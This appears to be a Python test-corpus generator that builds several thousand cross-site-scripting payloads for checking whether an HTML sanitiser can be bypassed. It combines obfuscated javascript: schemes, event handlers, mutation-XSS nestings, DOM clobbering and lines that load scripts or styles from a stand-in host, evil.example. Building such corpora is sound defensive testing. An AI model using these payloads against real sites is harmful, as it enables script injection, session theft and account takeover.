"""Ways to get a script past a sanitiser: vectors, each in several contexts and spellings."""

from itertools import product

CALL = "alert(1)"
SCHEMES = [
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\r\nscript:"),
    *(
        " javascript:",
        "\x01javascript:",
        "\x1f\x00javascript:",
        "java\x00script:",
        "\u00a0javascript:",
    ),
    *(
        "\u2028javascript:",
        "\ufeffjavascript:",
        "ｊａｖａｓｃｒｉｐｔ：",
        "ｊavascript:",
        "java\u00adscript:",
    ),
    *(
        "javascript&colon;",
        "javascript&#58;",
        "javascript&#x3a;",
        "javascript&#0000058",
        "&#106avascript:",
    ),
    *("&#x6A&#x61vascript:", "jav&#x09;ascript:", "jav&Tab;ascript:", "jav&NewLine;ascript:"),
    *(
        "&#1;javascript:",
        "&NonBreakingSpace;javascript:",
        "javascript\t:",
        "vbscript:",
        "livescript:",
    ),
    *("VBSCRIPT:", "mocha:", "view-source:javascript:", "feed:javascript:", "jar:javascript:"),
    *("blob:javascript:", "filesystem:javascript:", "data:text/html,<script>", "data:,"),
    *("data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=", "DATA:text/html;x,"),
    *(
        "data:application/xhtml+xml,",
        "javascript://example.org/%0a",
        "//javascript:",
        "about:",
        "\\\\",
    ),
]
ADDRESSES = [f"{scheme}{call}" for scheme in SCHEMES for call in (CALL, "123")]
ADDRESS_PLACES = [
    "<a href={}>x</a>",
    "<a href=https://a.example/ href={}>x</a>",
    "<a xlink:href={}>x</a>",
    "<img src={}>",
    "<img srcset={}>",
    '<img srcset="https://a.example/1 1x, {bare} 2x">',
    "<img data-src={}>",
    "<img src=data:image/gif;base64,R0 data-lazy-src={}>",
    "<img data-srcset={}>",
    "<noscript><img src={}></noscript>",
    "<picture><source srcset={}><img src={}></picture>",
    "<video poster={} src={}><source src={}></video>",
    "<audio src={}></audio>",
    "<iframe src={}></iframe>",
    "<blockquote cite={}>x</blockquote>",
    "<q cite={}>x</q>",
    "<del cite={}>x</del>",
    "<form action={}><button formaction={}>x</button></form>",
    "<object data={}></object><embed src={}>",
    "<svg><a href={}><text>x</text></a><use href={}></use></svg>",
    "<svg><animate attributeName=href values={}></animate><set to={}></set></svg>",
    "<math href={}><mi xlink:href={}>x</mi></math>",
    "<base href={}><link rel=stylesheet href={}>",
    "<meta http-equiv=refresh content='0;url={bare}'>",
    "<table background={}><td background={}>x</td></table>",
    "<p style=background:url({bare})>x</p>",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT/x>alert(1)</SCRIPT/x>",
    "<script\n>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<x-iframe src=https://evil.example/><x-noscript><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/x srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/x sandbox onload=alert(1)></iframe>",
    "<iframe src='https://www.youtube.com/embed/x\" onload=\"alert(1)'></iframe>",
    "<iframe src=https://evil.example\\@www.youtube.com/embed/x></iframe>",
    "<iframe src=https://www.youtube.com@evil.example/embed/x></iframe>",
    "<iframe src=https://www.youtube.com.evil.example/embed/x></iframe>",
    "<iframe src=https://evil.example/ title='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<object><param name=movie value=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x></applet><frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<html manifest=https://evil.example/x onclick=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<video controls onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1)><textarea onfocus=alert(1)>",
    "<isindex type=image src=x onerror=alert(1)><keygen onfocus=alert(1)>",
    "<a href=https://a.example/ target=_blank ping=https://evil.example/ onclick=alert(1)>x</a>",
    "<a id=location name=cookie href=#x>x</a><img name=getElementById id=body>",
    "<form id=document name=attributes><input name=parentNode></form>",
    "<template><script>alert(1)</script></template><slot onclick=alert(1)>",
    "<portal src=https://evil.example/></portal><fencedframe></fencedframe>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><?php alert(1) ?><x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
    "<!doctype html [<!entity x '<script>alert(1)</script>'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\u003cscript>alert(1)</script>\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x:alert(1) onerror=eval(src) alt='\"><script>alert(1)</script>'>",
    "<p title='\"><img src=x onerror=alert(1)>' lang='\" onclick=alert(1) x=\"'>x</p>",
    "<p class='pl-k\" onclick=\"alert(1)'>x</p>",
    "<table><tr><td><a href=x><table><script>alert(1)</script></a>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></p></svg></p>",
    "<plaintext><img src=x onerror=alert(1)>",
]
CONTEXTS = [
    "{}",
    "<p>before {} after</p>",
    "<table><tr><td>{}</td></tr></table>",
    "<table>{}</table>",
    "<svg>{}</svg>",
    "<math><mtext>{}</mtext></math>",
    "<select>{}</select>",
    "<noscript>{}</noscript>",
    "<iframe src=https://www.youtube.com/embed/x>{}</iframe>",
    "<b><i>{}</b></i>",
    "<pre><code>{}</code></pre>",
    "<ul><li>{}",
    "<!-- {} -->",
    "<a href='https://a.example/'>{}</a>",
]
QUOTES = ['"{}"', "'{}'"]


def spelled(vector: str) -> list[str]:
    return [vector, vector.replace("<", "<\x00"), vector.upper(), vector.replace(" ", "/")]


def addressed() -> list[str]:
    return [
        place.replace("{}", quote.format(address)).replace("{bare}", address)
        for place, address, quote in product(ADDRESS_PLACES, ADDRESSES, QUOTES)
    ]


def nested() -> list[str]:
    return [
        context.replace("{}", spelling)
        for context, vector in product(CONTEXTS, MARKUP)
        for spelling in spelled(vector)
    ]


def every_payload() -> list[str]:
    """All payloads, some thousands, without duplicates and in a fixed order."""
    return list(dict.fromkeys([*addressed(), *nested()]))
